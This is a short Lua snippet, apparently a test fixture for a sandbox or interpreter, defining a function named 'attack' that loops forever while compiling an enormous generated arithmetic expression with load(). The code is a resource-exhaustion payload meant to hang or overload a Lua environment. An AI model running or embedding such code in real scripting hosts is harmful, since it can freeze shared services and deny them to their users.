function attack(rec)
  while true do load("return " .. ("1 + "):rep(10000) .. "1") end
end
